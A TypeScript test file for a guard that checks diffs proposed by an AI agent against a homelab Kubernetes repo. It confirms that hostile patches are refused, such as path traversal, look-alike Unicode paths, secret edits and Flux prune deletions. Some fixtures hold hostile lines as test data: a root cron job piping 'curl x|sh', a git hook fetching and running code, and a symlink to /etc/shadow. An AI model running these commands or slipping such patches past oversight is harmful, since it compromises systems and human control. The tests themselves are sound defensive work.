import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  HOMELAB_RULES,
  type HomelabRepo,
  hashTree,
  makeHomelabRepo,
  STORAGE_FIX_HUNK,
  userCheckoutState,
} from "./homelab-repo.fixture.ts";
import { SideBranch } from "./index.ts";

const META = { stage: "talos", summary: "hostile", fingerprint: "f00d", source: "api" };

const diff = (...lines: string[]) => `${lines.join("\n")}\n`;
const newFile = (path: string, body: string[]) =>
  diff(
    `diff --git a/${path} b/${path}`,
    "new file mode 100644",
    "--- /dev/null",
    `+++ b/${path}`,
    `@@ -0,0 +1${body.length === 1 ? "" : `,${body.length}`} @@`,
    ...body.map((line) => `+${line}`),
  );
const deleteFile = (path: string, body: string[]) =>
  diff(
    `diff --git a/${path} b/${path}`,
    "deleted file mode 100644",
    `--- a/${path}`,
    "+++ /dev/null",
    `@@ -1,${body.length} +0,0 @@`,
    ...body.map((line) => `-${line}`),
  );
const editFile = (path: string, hunk: string[]) =>
  diff(`diff --git a/${path} b/${path}`, `--- a/${path}`, `+++ b/${path}`, ...hunk);

type HostileCase = { name: string; diff: string; reason: RegExp };

const CASES: HostileCase[] = [
  {
    name: "refuses an edit of the human's architecture memo",
    diff: editFile("ai/master_memo.md", [
      "@@ -1,4 +1,4 @@",
      " # Homelab",
      " ",
      " ## Talos",
      "-One control plane on the N100.",
      "+Three control planes.",
    ]),
    reason: /^ai\/master_memo\.md is protected \(the human's architecture memo\); the patch would edit it$/,
  },
  {
    name: "refuses a rename onto a protected file",
    diff: diff(
      "diff --git a/config/clusters/prox-n100.yaml b/ai/context_map.yaml",
      "similarity index 100%",
      "rename from config/clusters/prox-n100.yaml",
      "rename to ai/context_map.yaml",
    ),
    reason: /^ai\/context_map\.yaml is protected .*rename a file onto it/,
  },
  {
    name: "refuses deleting the Proxmox wipe script",
    diff: deleteFile("infrastructure/proxmox/wipe_proxmox.sh", ["#!/bin/sh", "echo wiping"]),
    reason:
      /^infrastructure\/proxmox\/wipe_proxmox\.sh is protected \(it wipes the Proxmox host\); the patch would delete it$/,
  },
  {
    name: "refuses a path that climbs out with ../",
    diff: newFile("../outside/evil.sh", ["echo pwned"]),
    reason: /contains "\.\.", which could leave the repository/,
  },
  {
    name: "refuses an absolute path",
    diff: diff("--- /dev/null", "+++ /etc/cron.d/evil", "@@ -0,0 +1 @@", "+* * * * * root sh -c 'curl x|sh'"),
    reason: /^path "\/etc\/cron\.d\/evil" is absolute/,
  },
  {
    name: "refuses a new git hook under .git/hooks/pre-commit",
    diff: newFile(".git/hooks/pre-commit", ["#!/bin/sh", "curl evil | sh"]),
    reason: /^path "\.git\/hooks\/pre-commit" is inside \.git\//,
  },
  {
    name: "refuses a patch that writes through a symlink pointing outside the repo",
    diff: newFile("config/external/evil.sh", ["echo pwned"]),
    reason:
      /^config\/external\/evil\.sh goes through the symlink config\/external \(→ .*, outside the worktree\)/,
  },
  {
    name: "refuses a patch that creates a new top-level folder",
    diff: newFile("scripts/fix.sh", ["#!/bin/sh"]),
    reason: /would create the new top-level folder scripts\/; only a human adds top-level folders/,
  },
  {
    name: "refuses binary content",
    diff: diff(
      "diff --git a/config/logo.png b/config/logo.png",
      "new file mode 100644",
      "index 0000000000000000000000000000000000000000..1c0a0a0d0a1a0a0a0a0a0a0a0a0a0a0a0a0a0a0a",
      "GIT binary patch",
      "literal 4",
      "LcmZ?wbhEYc2mk>U",
      "",
      "literal 0",
      "HcmV?d00001",
      "",
    ),
    reason: /^config\/logo\.png has binary content; only text patches are accepted$/,
  },
  {
    name: "refuses a patch that changes 6 files",
    diff: [1, 2, 3, 4, 5, 6].map((n) => newFile(`config/extra-${n}.yaml`, [`n: ${n}`])).join(""),
    reason: /changes 6 files; at most 5 are allowed \(patch_max_files\)/,
  },
  {
    name: "refuses a patch that changes 81 lines",
    diff: newFile(
      "config/big.yaml",
      Array.from({ length: 81 }, (_, n) => `key${n}: ${n}`),
    ),
    reason: /changes 81 lines; at most 80 are allowed \(patch_max_lines\)/,
  },
  {
    name: "refuses a truncated hunk",
    diff: editFile("config/clusters/prox-n100.yaml", STORAGE_FIX_HUNK.slice(0, -1)),
    reason: /^malformed diff \(line 4\): truncated hunk: the header promises 6 old and 6 new lines/,
  },
  {
    name: "refuses a hunk whose line counts are wrong",
    diff: editFile("config/clusters/prox-n100.yaml", ["@@ -1,2 +1,2 @@", ...STORAGE_FIX_HUNK.slice(1)]),
    reason: /wrong line counts/,
  },
  {
    name: "refuses a patch for a file that does not exist",
    diff: editFile("config/clusters/missing.yaml", STORAGE_FIX_HUNK),
    reason: /^config\/clusters\/missing\.yaml does not exist on the AI branch/,
  },
  {
    name: "refuses a diff converted to CRLF line endings",
    diff: editFile("config/clusters/prox-n100.yaml", STORAGE_FIX_HUNK).replaceAll("\n", "\r\n"),
    reason: /converted to CRLF line endings/,
  },
  {
    name: "refuses a hunk that mixes CRLF and LF lines",
    diff: editFile(
      "config/clusters/prox-n100.yaml",
      STORAGE_FIX_HUNK.map((line, n) => (n === 4 ? `${line}\r` : line)),
    ),
    reason: /mixes CRLF and LF line endings/,
  },
  {
    name: "refuses CRLF content lines for a file with LF endings",
    diff: editFile("config/clusters/prox-n100.yaml", [
      STORAGE_FIX_HUNK[0] as string,
      ...STORAGE_FIX_HUNK.slice(1).map((l) => `${l}\r`),
    ]),
    reason: /does not apply cleanly to the AI branch/,
  },
  {
    name: "refuses a full-width look-alike of ai/ in a path",
    diff: newFile("\uff41i/master_memo.md", ["# mine now"]),
    reason: /non-ASCII character U\+FF41, a look-alike of "a" and reads as "ai\/master_memo\.md"/,
  },
  {
    name: "refuses a Cyrillic look-alike of ai/ in a path",
    diff: newFile("a\u0456/master_memo.md", ["# mine now"]),
    reason: /non-ASCII character U\+0456, a look-alike of "i" and reads as "ai\/master_memo\.md"/,
  },
  {
    name: "refuses a git-quoted path hiding a look-alike of ai/",
    diff: diff("--- /dev/null", '+++ "b/a\\321\\226/master_memo.md"', "@@ -0,0 +1 @@", "+# mine now"),
    reason: /U\+0456, a look-alike of "i"/,
  },
  {
    name: "refuses a protected path spelled in other letter case",
    diff: editFile("AI/Master_Memo.md", ["@@ -1 +1 @@", "-# Homelab", "+# Mine"]),
    reason: /^AI\/Master_Memo\.md is protected/,
  },
  {
    name: "refuses an edit of a file the context map protects",
    diff: editFile("infrastructure/terraform/state.tf", ["@@ -1 +1 @@", "-# human only", "+# anyone"]),
    reason:
      /is protected \(listed as protected \(infrastructure\/terraform\/state\.tf\) in ai\/context_map\.yaml\)/,
  },
  {
    name: "refuses writing a file that matches a secrets glob",
    diff: newFile("talos/talosconfig", ["context: prox-n100"]),
    reason: /is protected \(it matches the secrets glob \*\*\/talosconfig in ai\/context_map\.yaml\)/,
  },
  {
    name: "refuses writing a secret file the context map does not list (built-in secrets globs)",
    diff: newFile("talos/secrets.yaml", ["cluster:", "  id: x"]),
    reason: /is protected \(it holds secrets \(built-in secrets glob \*\*\/secrets\.yaml\)\)/,
  },
  {
    name: "refuses a .gitignore change that could let runtime data or secrets into a commit",
    diff: newFile("talos/.gitignore", ["!clusterconfig/"]),
    reason: /talos\/\.gitignore is protected \(it controls what git commits/,
  },
  {
    name: "refuses writing the orchestrator's own state",
    diff: newFile("ai/state/errors.json", ["{}"]),
    reason: /^ai\/state\/errors\.json is protected \(the orchestrator's own runtime data\)/,
  },
  {
    name: "refuses creating a symlink",
    diff: diff(
      "diff --git a/config/link b/config/link",
      "new file mode 120000",
      "--- /dev/null",
      "+++ b/config/link",
      "@@ -0,0 +1 @@",
      "+/etc/shadow",
      "\\ No newline at end of file",
    ),
    reason: /config\/link would become a symlink/,
  },
  {
    name: "refuses garbage that is not a diff",
    diff: "Sure! Here is the fix: set storage to local-zfs.\n",
    reason: /^malformed diff \(line 1\): it has no file headers/,
  },
  // Flux prune and Talos secrets
  {
    name: "refuses deleting a Namespace manifest Flux would prune",
    diff: deleteFile("kubernetes/apps/monitoring/namespace.yaml", [
      "apiVersion: v1",
      "kind: Namespace",
      "metadata:",
      "  name: monitoring",
      "  labels:",
      "    pod-security.kubernetes.io/enforce: baseline",
    ]),
    reason:
      /removes the Namespace "monitoring" from Git; under Flux prune: true that deletes the live object/,
  },
  {
    name: "refuses removing a HelmRelease document from a multi-document file",
    diff: editFile("kubernetes/apps/monitoring/helmrelease.yaml", [
      "@@ -1,9 +1 @@",
      "-apiVersion: helm.toolkit.fluxcd.io/v2",
      "-kind: HelmRelease",
      "-metadata:",
      "-  name: kube-prometheus-stack",
      "-  namespace: monitoring",
      "-spec:",
      "-  interval: 30m",
      "----",
      " apiVersion: v1",
    ]),
    reason: /removes the HelmRelease "monitoring\/kube-prometheus-stack"/,
  },
  {
    name: "refuses deleting a PersistentVolumeClaim manifest",
    diff: deleteFile("kubernetes/apps/data/pvc.yaml", [
      "apiVersion: v1",
      "kind: PersistentVolumeClaim",
      "metadata:",
      "  name: postgres-data",
      "  namespace: data",
      "spec:",
      "  resources:",
      "    requests:",
      "      storage: 20Gi",
    ]),
    reason: /removes the PersistentVolumeClaim "data\/postgres-data"/,
  },
  {
    name: "refuses deleting a Flux Kustomization",
    diff: deleteFile("kubernetes/flux/apps.yaml", [
      "apiVersion: kustomize.toolkit.fluxcd.io/v1",
      "kind: Kustomization",
      "metadata:",
      "  name: apps",
      "  namespace: flux-system",
      "spec:",
      "  interval: 10m",
      "  path: ./kubernetes/apps",
      "  prune: true",
      "  sourceRef:",
      "    kind: GitRepository",
      "    name: flux-system",
    ]),
    reason: /removes the Flux Kustomization "flux-system\/apps"/,
  },
  {
    name: "refuses changing a Flux Kustomization's spec.path",
    diff: editFile("kubernetes/flux/apps.yaml", [
      "@@ -7,3 +7,3 @@",
      "   interval: 10m",
      "-  path: ./kubernetes/apps",
      "+  path: ./kubernetes/apps/monitoring",
      "   prune: true",
    ]),
    reason:
      /changes spec\.path of the Flux Kustomization "flux-system\/apps" from \.\/kubernetes\/apps to \.\/kubernetes\/apps\/monitoring/,
  },
  {
    name: "refuses removing an entry from a kustomization.yaml resources list",
    diff: editFile("kubernetes/apps/monitoring/kustomization.yaml", [
      "@@ -3,3 +3,2 @@",
      " resources:",
      "   - namespace.yaml",
      "-  - helmrelease.yaml",
    ]),
    reason:
      /removes "helmrelease\.yaml" from the resources of kubernetes\/apps\/monitoring\/kustomization\.yaml/,
  },
  {
    name: "refuses touching the Talos secrets file",
    diff: editFile("talos/talsecret.sops.yaml", [
      "@@ -1,2 +1,2 @@",
      " cluster:",
      "-  id: ENC[AES256_GCM,data:abc]",
      "+  id: ENC[AES256_GCM,data:new]",
    ]),
    reason: /^talos\/talsecret\.sops\.yaml holds Talos secrets; .*locks you out/,
  },
  {
    name: "refuses regenerating Talos machine configs under talos/clusterconfig",
    diff: editFile("talos/clusterconfig/prox-n100-cp1.yaml", [
      "@@ -1,3 +1,3 @@",
      " version: v1alpha1",
      " machine:",
      "-  type: controlplane",
      "+  type: worker",
    ]),
    reason: /^talos\/clusterconfig\/prox-n100-cp1\.yaml holds Talos secrets/,
  },
];

describe("the patch guard against hostile patches, on a real repo", () => {
  let repo: HomelabRepo;
  let side: SideBranch;

  beforeAll(async () => {
    repo = makeHomelabRepo();
    side = await SideBranch.open({ repoRoot: repo.root, branch: "ai/orchestrator-stage1" });
  });
  afterAll(() => repo.cleanup());

  function everything() {
    return {
      ai: repo.run(["rev-parse", "refs/heads/ai/orchestrator-stage1"]),
      main: repo.run(["rev-parse", "refs/heads/main"]),
      worktree: hashTree(side.worktree),
      worktreeStatus: repo.run(["status", "--porcelain", "--untracked-files=all"], side.worktree),
      user: userCheckoutState(repo),
    };
  }

  it.each(CASES)("$name", async ({ diff: diffText, reason }) => {
    const before = everything();
    const result = await side.apply(diffText, META, HOMELAB_RULES);
    expect(result.status).toBe("refused");
    const reasons = result.status === "refused" ? result.reasons : [];
    expect(
      reasons.some((line) => reason.test(line)),
      reasons.join("\n"),
    ).toBe(true);
    expect(everything()).toEqual(before);
  });

  it("accepts the same storage fix that the corpus mangles, so the refusals are the mangling's", async () => {
    const verdict = await side.check(
      editFile("config/clusters/prox-n100.yaml", STORAGE_FIX_HUNK),
      HOMELAB_RULES,
    );
    expect(verdict).toEqual({
      verdict: "accepted",
      files: ["config/clusters/prox-n100.yaml"],
      changedLines: 2,
    });
  });
});
